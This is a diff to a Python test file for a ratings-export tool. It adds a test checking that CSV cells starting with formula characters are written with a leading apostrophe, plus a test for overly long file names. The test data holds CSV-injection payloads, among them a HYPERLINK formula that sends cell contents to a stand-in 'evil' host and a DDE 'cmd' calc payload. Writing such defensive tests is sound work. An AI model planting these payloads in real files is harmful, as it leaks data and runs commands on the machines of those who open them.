@@ -41,7 +41,8 @@ def test_cli_default_path_csv_parquet(run_dir: Path, fake_stats_module: None,
     ratings = load_run(run_dir).ratings
     csv = pl.read_csv(run_dir / "demo.ratings.csv")
     assert csv.height == ratings.height
-    assert set(csv["reason"].drop_nulls()) == set(ratings["reason"].drop_nulls())
+    assert set(csv["reason"].drop_nulls()) == {
+        "'" + r if r[0] in "=+-@\t\r" else r for r in ratings["reason"].drop_nulls()}
     parquet = pl.read_parquet(run_dir / "demo.ratings.parquet")
     assert parquet.sort("image_id", "aspect", "repeat").equals(
         ratings.sort("image_id", "aspect", "repeat"))
@@ -200,3 +201,56 @@ def test_numbers_equal_stats_json(run_dir: Path, capsys: pytest.CaptureFixture) 
             for line in cross[i + 2:i + 2 + len(stats["cross_by_k"][k])]:
                 for human, cell in zip(header[1:], line[1:], strict=True):
                     assert close(cell, stats["cross_by_k"][k][line[0]][human])
+
+
+HOSTILE_CSV_TEXT = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+cmd|' /C calc'!A0",
+                    "@SUM(1)", "-1+1", "=2+2", "\t=1+1", "\r=1+1", "-", "a=b", " =1"]
+
+
+def test_csv_cells_never_start_a_formula(tmp_path: Path, fake_stats_module: None,
+                                         capsys: pytest.CaptureFixture) -> None:
+    """Issue 17 item 4: ids, reasons and raw answers that a spreadsheet would run are
+    written with a leading ' (OWASP); the text after it is the text stored."""
+    import csv as csv_module
+
+    from tests.export.conftest import make_run
+    from vlmrate.store import RATINGS
+
+    run_dir = make_run(tmp_path / "runs", "h")
+    with open(run_dir / RATINGS, "a") as handle:
+        for i, text in enumerate(HOSTILE_CSV_TEXT, start=1):
+            handle.write(json.dumps({
+                "image_id": text, "aspect": "relevance", "repeat": 1, "seed": i, "rating": 3,
+                "reason": text, "raw": text, "parse_error": None, "finish_reason": text,
+                "prompt_tokens": 1, "output_tokens": 1, "latency_s": -1.5,
+                "expected_rating": None, "rating_probs": None, "engine_error": text,
+                "time": "t"}) + "\n")
+    assert main(["export", "h", "--csv", "--runs-dir", str(tmp_path / "runs")]) == 0
+    capsys.readouterr()
+    with open(run_dir / "h.ratings.csv", newline="", encoding="utf-8") as handle:
+        rows = list(csv_module.DictReader(handle))
+    for row in rows:
+        for name, cell in row.items():
+            if name != "latency_s":
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+    hostile = {row["image_id"]: row for row in rows if row["latency_s"] == "-1.5"}
+    assert len(hostile) == len(HOSTILE_CSV_TEXT)  # a number column keeps its minus sign
+    for text in HOSTILE_CSV_TEXT:
+        shown = "'" + text if text[0] in "=+-@\t\r" else text
+        assert shown in hostile
+        row = hostile[shown]
+        assert row["reason"] == row["raw"] == row["engine_error"] == shown
+
+
+def test_names_too_long_for_the_file_system(run_dir: Path, tmp_path: Path,
+                                            capsys: pytest.CaptureFixture) -> None:
+    """Issue 17 item 6: a 300-character -o or run name was a traceback (ENAMETOOLONG)."""
+    runs = str(run_dir.parent)
+    long = "a" * 300
+    for args in (["export", "demo", "-o", str(tmp_path / f"{long}.xlsx")],
+                 ["export", "demo", "-o", str(tmp_path / long / "x.xlsx")],
+                 ["stats", long], ["export", long]):
+        assert main([*args, "--runs-dir", runs]) == 2
+        err = capsys.readouterr().err
+        assert err.count("\n") == 1 and "Traceback" not in err and len(err) < 300
+        assert "File name too long" in err or "not found" in err
